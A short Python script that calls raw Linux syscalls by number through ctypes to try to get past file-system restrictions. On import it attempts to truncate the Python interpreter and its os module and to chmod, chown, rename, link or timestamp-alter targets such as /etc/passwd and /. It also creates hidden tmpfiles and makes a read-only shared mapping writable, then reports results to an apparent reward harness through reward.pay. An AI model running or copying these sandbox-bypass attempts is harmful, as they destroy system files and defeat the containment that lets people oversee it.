import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
TARGETS = [path.encode() for path in (os.__file__, sys.executable, "/dev/null", "/tmp", "/usr/lib", "/", "/etc/passwd")]
NEW = b"/tmp/reparam-attack-by-call"


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *arguments) >= 0

import reward


def try_truncate():
    return any(call(76, target, 0) for target in TARGETS[:2])


def try_truncate_opened():
    descriptors = [os.open(target, os.O_RDONLY) for target in TARGETS[:1]]
    return any(call(77, number, 0) or call(285, number, 0, 0, 10) for number in descriptors)


def try_modes():
    return any(call(90, target, 0o777) or call(268, -100, target, 0o777) or call(92, target, 0, 0) for target in TARGETS)


def try_times():
    return any(call(132, target, None) or call(280, -100, target, None, 0) or call(235, target, None) for target in TARGETS)


def try_attributes():
    return any(call(188, target, b"user.x", b"x", 1, 0) or call(191, target, b"user.x", None, 0) or call(194, target, None, 0) for target in TARGETS)


def try_names():
    return any(call(82, target, NEW) or call(264, -100, target, -100, NEW) or call(316, -100, target, -100, NEW, 2) for target in TARGETS)


def try_links():
    return any(call(86, target, NEW) or call(265, -100, target, -100, NEW, 0) or call(88, target, NEW) for target in TARGETS)


def try_nodes():
    return call(133, NEW, 0o10666, 0) or call(259, -100, NEW, 0o100666, 0) or call(83, NEW, 0o777) or call(85, NEW, 0o666)


def try_unnamed():
    return any(call(257, -100, place, 0o20200000 | 2, 0o600) for place in (b"/tmp", b"/dev/shm", b"/var/tmp", b"/"))


def try_copying():
    source = os.open(TARGETS[0], os.O_RDONLY)
    sink = os.open("/dev/null", os.O_WRONLY)
    return call(40, sink, source, None, 10) or call(326, source, None, sink, None, 10, 0) or call(275, source, None, sink, None, 10, 0)


def try_shared_writable_pages():
    import mmap

    with open(TARGETS[0], "rb") as file:
        area = mmap.mmap(file.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ)
        address = ctypes.c_size_t.from_buffer_copy(ctypes.string_at(id(area) + 16, 8)).value
        return libc.mprotect(ctypes.c_void_p(address), 4096, 3) == 0

reward.pay(globals(), try_truncate, try_truncate_opened, try_modes, try_times, try_attributes, try_names, try_links, try_nodes, try_unnamed, try_copying, try_shared_writable_pages)
